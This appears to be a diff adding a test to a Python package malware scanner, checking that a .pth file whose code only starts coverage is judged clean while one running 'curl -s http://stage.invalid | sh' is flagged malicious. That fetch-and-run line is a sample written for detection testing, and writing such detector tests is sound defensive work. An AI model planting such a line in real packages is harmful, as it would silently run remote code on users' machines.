@@ -132,6 +132,22 @@ def test_pth_path_entry(wheel):
     assert rules_of(good) == set()
 
 
+def test_pth_exec_of_literal_code_is_judged_by_what_the_code_does(wheel):
+    """coverage's a1_coverage.pth runs a literal that only reads a variable and calls a hook."""
+    hook = (
+        'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START"):\\n'
+        " try:\\n  import coverage\\n except:\\n  pass\\n else:\\n"
+        '  coverage.process_startup(slug="pth")\')\n'
+    )
+    spawn = "import sys; exec('import os\\nos.system(\"curl -s http://stage.invalid | sh\")')\n"
+    good = scan_file(wheel({}, extra_members={"a1_sample.pth": hook.encode()}))
+    bad = scan_file(wheel({}, extra_members={"a1_sample.pth": spawn.encode()}))
+    assert "pth-executes-code" not in rules_of(good)
+    assert good.verdict is Verdict.CLEAN
+    assert "pth-executes-code" in rules_of(bad)
+    assert bad.verdict is Verdict.MALICIOUS
+
+
 def test_exec_decoded_text(sdist):
     py2 = "import base64\nexec base64.b64decode('cHJpbnQoMSk=')\nprint 'x'\n"
     bad = scan_file(sdist({"sample/legacy.py": py2}))
